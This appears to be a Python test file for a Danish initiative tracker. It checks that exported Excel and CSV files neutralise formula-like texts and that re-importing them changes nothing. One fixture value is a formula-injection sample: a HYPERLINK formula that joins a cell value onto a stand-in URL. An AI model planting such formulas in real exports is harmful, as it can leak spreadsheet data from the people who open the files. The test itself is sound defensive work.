"""Texts that look like formulas (=, +, -, @) stay text in the initiative list's and the log's workbooks, and
in their CSV files, exactly as typed; a download uploaded again changes nothing."""
from __future__ import annotations

import csv
from io import BytesIO, StringIO

import openpyxl
import pytest
from sqlalchemy import select

from tests.seeded_app import TMF_INITIATIVE, sign_in
from tests.transfer.helpers import counts, upload
from tracker.extensions import db
from tracker.initiatives.models import Initiative
from tracker.log.models import CooperationEntry

TITLE = '=HYPERLINK("http://x"&D3,"y") Tryghed'
SUMMARY = "+45 33 66 33 66 ringer op"
ENTRY = "@SUM(1) og -1 i referatet"


@pytest.fixture
def planted(walk_app, tmp_path):
    app, _targets = walk_app
    app.config["IMPORT_FOLDER"] = str(tmp_path / "imports")
    initiative = db.session.scalar(select(Initiative).where(Initiative.title == TMF_INITIATIVE))
    initiative.title, initiative.summary = TITLE, SUMMARY
    entry = db.session.scalar(select(CooperationEntry).where(CooperationEntry.initiative_id == initiative.id)
                              .order_by(CooperationEntry.id).limit(1))
    entry.text = ENTRY
    db.session.commit()
    client = app.test_client()
    sign_in(client, "koordinator")
    yield client
    initiative.title = TMF_INITIATIVE
    db.session.commit()


@pytest.mark.parametrize(("path", "texts"), [("/initiatives/export", [TITLE, SUMMARY]), ("/log/export", [ENTRY])])
def test_formula_like_texts_are_text_in_the_workbook_and_the_csv(planted, path, texts):
    workbook = planted.get(f"{path}.xlsx")
    assert workbook.status_code == 200
    cells = [cell for row in openpyxl.load_workbook(BytesIO(workbook.data)).active.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value for cell in cells}
    assert all(text in values for text in texts)
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
    assert risky and all(cell.quotePrefix for cell in risky)

    sheet = planted.get(f"{path}.csv").data.decode("utf-8-sig")
    csv_cells = {cell for row in csv.reader(StringIO(sheet, newline=""), delimiter=";") for cell in row}
    assert all(f"'{text}" in csv_cells for text in texts)  # Excel shows the text; the import drops the quote


def test_a_workbook_with_formula_like_texts_uploaded_again_changes_nothing(planted):
    data = planted.get("/initiatives/export.xlsx").data
    page = upload(planted, data, "indsatser.xlsx").get_data(as_text=True)
    assert counts(page)["changed"] == 0 and counts(page)["error"] == 0


@pytest.mark.parametrize(("path", "missing"), [("/initiatives/export", "Der findes ingen indsats med id 99999999."),
                                               ("/log/export", "Der findes ingen logpost med id 99999999.")])
def test_a_row_with_an_unknown_id_is_named_and_nothing_applies(planted, path, missing):
    from tests.transfer.helpers import edited, error_rows
    data = planted.get(f"{path}.csv").data
    key = "'" + (TITLE if path.startswith("/initiatives") else ENTRY)  # as the CSV holds it
    page = upload(planted, edited(data, "csv", {key: {"id": 99999999}}), "fil.csv").get_data(as_text=True)
    assert counts(page)["error"] == 1
    assert any(column == "id" and missing in reason for _row, column, reason in error_rows(page))
